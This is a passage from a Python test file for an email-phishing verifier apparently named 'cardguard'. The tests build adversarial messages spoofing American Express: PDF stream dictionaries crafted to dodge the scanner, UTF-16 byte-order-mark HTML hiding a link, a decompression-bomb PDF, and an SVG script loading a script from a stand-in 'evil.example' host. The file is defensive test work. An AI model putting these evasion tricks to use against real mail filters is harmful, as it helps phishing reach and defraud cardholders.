    b"/Type /ObjStm /N 1 /First 4 /Filter %x\n/FlateDecode",    # a comment between key and value
    b"/Type /ObjStm /N 1 /First 4 /Filter 9 0 R",               # the filter written in another object
    b"/Type /ObjStm /N 1 /First 4 /Title (obj) /Filter /FlateDecode",  # "obj" inside a string
    b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Pad (" + b"x" * 5000 + b")",  # longer than is read
    b"/Type /ObjStm /Subtype /Image /N 1 /First 4 /Filter /FlateDecode",  # objects, whatever else it says
    b"/Type /ObjStm /Note /XRef /N 1 /First 4 /Filter /FlateDecode",      # not a cross-reference table
])
def test_a_stream_whose_dictionary_is_written_to_slip_past_the_scan_is_read_or_counted_unread(
        key, address, directory, dictionary):
    # Found by an attacker: each of these made a compressed object stream read as plain bytes, and its
    # link annotation was never seen.
    data = pdf_with_stream(dictionary, link(b"(" + EVIL.encode() + b")"))
    verdict = check(with_pdf(key, data), address, directory)
    assert verdict.verdict != "genuine", codes(verdict)
    assert shows_evil(verdict) or "link.attachment_unreadable" in codes(verdict)


@pytest.mark.parametrize("label", ["utf-16", "utf-16le", "utf-8", "shift_jis"])
def test_html_with_a_byte_order_mark_is_read_as_the_mark_says(key, address, directory, label):
    # Found by an attacker: UTF-16 big-endian HTML with its mark, labelled utf-16 (little-endian to a
    # browser's label table), read as noise with no link, while a browser follows the mark and shows it.
    html = f'<p><a href="{EVIL}">ログイン</a> <a href="https://www.americanexpress.com/ja-jp/">Amex</a></p>'
    msg = email.message.EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "American Express <Americanexpress@welcome.americanexpress.com>", ALIAS, "SafeKey"
    msg.set_content(SAFEKEY_BODY.replace("https://www.americanexpress.com/ja-jp/account/login\n", ""))
    msg.add_alternative(b"\xfe\xff" + html.encode("utf-16-be"), maintype="text", subtype="html",
                        params={"charset": label}, cte="base64")
    verdict = check(signed(key, msg), address, directory)
    assert verdict.verdict != "genuine" and shows_evil(verdict)


def test_decoded_pdf_streams_past_what_a_file_may_keep_are_counted_unread():
    # Found by an attacker: two hundred 5 MB streams from a 1.4 MB file were all kept (1 GB).
    from cardguard.verify import message as reader

    filler = zlib.compress(b"\0" * 4_000_000)
    streams = b"".join(b"%d 0 obj\n<< /Type /ObjStm /N 0 /First 0 /Filter /FlateDecode /Length %d >>\nstream\n"
                       % (10 + n, len(filler)) + filler + b"\nendstream\nendobj\n" for n in range(10))
    data = pdf(link(b"(" + EVIL.encode() + b")")) + streams
    uris, unread = reader._pdf_uris(data)
    assert EVIL in uris and unread >= 10 - reader.MAX_PDF_KEPT_BYTES // 4_000_000


def test_an_svg_script_loads_its_href(key, address, directory):
    html = ('<svg><script xlink:href="https://evil.example/x.js"></script></svg>'
            '<p><a href="https://www.americanexpress.com/ja-jp/">Amex</a></p>')
    verdict = check(signed(key, html=html), address, directory)
    assert verdict.verdict != "genuine" and shows_evil(verdict)


def test_every_dash_is_read_as_a_separator_in_a_shown_number():
    import unicodedata

    from cardguard.verify.links import _NUMBER_DASHES

    dashes = [char for char in map(chr, range(0x110000)) if unicodedata.category(char) == "Pd" and char != "-"]
    assert all(ord(char) in _NUMBER_DASHES for char in dashes)


def test_an_sms_link_with_a_message_body_dials_only_its_number():
    # iOS writes sms:NUMBER&body=TEXT: the body's digits were read as part of the number.
    from cardguard.verify.links import _phone_target

    assert _phone_target("sms:0120020120&body=Code%201234") == "0120020120"
    assert _phone_target("sms:0120020120?body=1234") == "0120020120"
    assert _phone_target("tel:0120-020120;ext=12") == "0120-020120"
